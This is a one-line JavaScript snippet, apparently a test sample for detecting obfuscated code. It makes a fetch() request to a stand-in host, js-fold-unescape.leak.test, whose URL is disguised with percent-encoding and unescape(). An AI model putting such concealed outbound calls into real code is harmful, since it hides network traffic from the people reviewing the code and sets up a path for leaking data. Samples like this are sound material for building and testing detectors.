fetch(unescape("%68ttps%3A//js-fold-unescape.leak.test/"))
